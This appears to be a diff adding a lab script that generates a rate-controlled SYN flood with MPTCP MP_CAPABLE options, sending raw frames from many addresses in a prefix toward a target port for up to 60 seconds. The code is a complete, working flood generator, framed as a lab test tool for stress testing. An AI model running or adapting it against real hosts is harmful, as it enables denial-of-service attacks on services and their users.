@@ -1,0 +1,68 @@
+"""Sends TCP SYNs with MP_CAPABLE as fast as asked, from the addresses of a prefix. For the lab `flood` only: it
+runs inside a lab host's namespace, through that host's own interface, and ends by itself.
+
+usage: flooding.py INTERFACE GATEWAY_MAC SOURCE_PREFIX DESTINATION PORT RATE SECONDS
+"""
+
+import ipaddress
+import socket
+import sys
+import time
+from struct import pack
+
+FRAMES = 60_000  # different 5-tuples, sent over and over with different sequence numbers
+OPTIONS = bytes.fromhex("020405b4 0402080a 00000001 00000000 01030307 1e040101".replace(" ", ""))
+MOST_SECONDS = 60.0
+
+
+def _sum(data: bytes) -> int:
+    total = sum(int.from_bytes(data[i : i + 2], "big") for i in range(0, len(data), 2))
+    while total >> 16:
+        total = (total & 0xFFFF) + (total >> 16)
+    return total
+
+
+def frame(own: bytes, gateway: bytes, src: bytes, dst: bytes, sport: int, dport: int, seq: int) -> bytes:
+    """One Ethernet frame, IPv4."""
+    words = (20 + len(OPTIONS)) // 4
+    tcp = pack(">HHIIBBHHH", sport, dport, seq, 0, words << 4, 0x02, 65535, 0, 0) + OPTIONS
+    check = ~_sum(src + dst + pack(">HH", 6, len(tcp)) + tcp) & 0xFFFF
+    tcp = tcp[:16] + pack(">H", check) + tcp[18:]
+    ip = pack(">BBHHHBBH", 0x45, 0, 20 + len(tcp), 0, 0x4000, 64, 6, 0) + src + dst
+    ip = ip[:10] + pack(">H", ~_sum(ip) & 0xFFFF) + ip[12:]
+    return gateway + own + b"\x08\x00" + ip + tcp
+
+
+def main() -> int:
+    interface, gateway, prefix, destination, port, rate, seconds = sys.argv[1:]
+    wanted, limit = float(rate), min(float(seconds), MOST_SECONDS)
+    out = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
+    out.bind((interface, 0))
+    own = out.getsockname()[4]
+    hosts = [a.packed for a in list(ipaddress.ip_network(prefix).hosts())[2:]]
+    target = ipaddress.ip_address(destination).packed
+    mac = bytes.fromhex(gateway.replace(":", ""))
+    frames = [
+        frame(own, mac, hosts[n % len(hosts)], target, 1024 + n // len(hosts), int(port), n)
+        for n in range(FRAMES)
+    ]
+    print("ready", flush=True)
+    sent = 0
+    start = time.monotonic()
+    while (gone := time.monotonic() - start) < limit:
+        due = int(gone * wanted) - sent
+        if due <= 0:
+            time.sleep(0.001)
+            continue
+        for _ in range(min(due, 256)):
+            try:
+                out.send(frames[sent % FRAMES])
+            except OSError:
+                pass  # the interface's queue is full: that one is lost, as on a real link
+            sent += 1
+    print(sent, round(sent / (time.monotonic() - start)), flush=True)
+    return 0
+
+
+if __name__ == "__main__":
+    sys.exit(main())
